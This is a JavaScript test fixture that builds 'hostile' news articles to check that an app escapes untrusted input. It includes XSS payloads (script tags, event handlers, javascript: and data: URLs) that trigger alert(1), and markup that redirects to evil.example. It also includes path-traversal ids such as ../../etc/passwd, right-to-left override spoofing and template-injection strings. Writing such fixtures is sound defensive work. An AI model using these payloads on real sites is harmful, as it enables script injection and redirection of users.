/* Articles of somebody who wants the page to run his script, send something to his server, or come apart. */

/* A script that ran would show: a dialog, a message, a request, or this name in the page. */
export const TRACE = "morgueWasHere";
const run = `window.${TRACE}=1;alert(1)`;

const markup = [
  `<script>${run}</script>`,
  `</title></textarea></style></script><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}`,
  `<iframe srcdoc="&lt;script&gt;parent.${TRACE}=1&lt;/script&gt;"></iframe>`,
  `<form action="https://evil.example/"><input name=q><button>Search</button></form>`,
  `<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<style>*{display:none}</style><p style="position:fixed;inset:0">over all</p>`,
  `<!-- --><![CDATA[ ]]><?php echo 1 ?>`,
  `&lt;script&gt;${run}&lt;/script&gt; &#60;b&#62; &amp;amp;`,
];
const templates = `{{q}} {{{q}}} {{#hits}}{{title}}{{/hits}} {{>page.html}} {{=<% %>=}} {{! no }}`;
const rtl = "\u202Egnp.exe\u202C \u2066\u202Ereversed and never ended";
const long = "Donaudampfschifffahrtsgesellschaft".repeat(40);
const odd =
  "null undefined NaN \uFEFF\u200B\u00AD \u{1F469}\u200D\u{1F680} \u{1F3F4}\u{E0067}\u{E0062}\u{E007F} " +
  "e\u0301\u0323 Z\u0351\u0343\u0346\u035Balgo";

const dates = (i) => `20${10 + (i % 13)}-0${1 + (i % 9)}-15`;

/* All of it at each place that an article has. */
const everywhere = (text, i) => ({
  id: `hostile-${i}`,
  title: `mayhem ${text}`,
  text: `mayhem begins here. ${text}\n\nAnd mayhem again: ${text}`,
  date: dates(i),
  source: `Source ${text}`,
  section: `Section ${text}`,
  authors: [`Author ${text}`],
  persons: [`Person ${text}`],
  organizations: [`Organization ${text}`],
  locations: [`Place ${text}`],
  topics: [`Topic ${text}`],
  language: "en",
});

const links = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, `\u0001javascript:${run}`, `data:text/html,<script>${run}</script>`,
  "vbscript:x", "//evil.example/x", `https://evil.example/"onmouseover="${run}`, "https://evil.example/<script>",
];

export const hostileArticles = [
  ...[...markup, templates, rtl, long, odd].map(everywhere),
  ...links.map((url, i) => ({
    id: `link-${i}`, title: `mayhem with a link ${i}`, text: "mayhem, and where it is from.", date: dates(i), url,
    source: "Links",
  })),
  { id: `../../etc/passwd?q=<b>&x="#`, title: "mayhem in an id", text: "mayhem", source: "Ids" },
  { id: "%2e%2e%2f%00", title: "mayhem in another id", text: "mayhem", source: "Ids" },
  { id: "no-title", text: "mayhem without a title, a date and a source" },
  { id: "language", title: "mayhem in no language", text: "mayhem", language: `en" onclick="${run}` },
  {
    id: "right-to-left", title: "الميناء يفتح أبوابه mayhem من جديد", language: "ar", date: "2019-03-04",
    text: "عاد الميناء إلى العمل mayhem بعد يومين من الإغلاق.\n\nقال مدير الميناء إن السفن تنتظر.",
    source: "صحيفة المرفأ", persons: ["ليلى حداد"],
  },
  {
    id: "headline", title: `mayhem ${"and a headline that goes on without an end ".repeat(12)}`, text: "mayhem ".repeat(400),
    source: "A newspaper with a name that is far longer than a name has to be, and goes on", date: "2020-02-29",
    persons: Array.from({ length: 60 }, (_, i) => `Person Number ${i}`),
  },
];
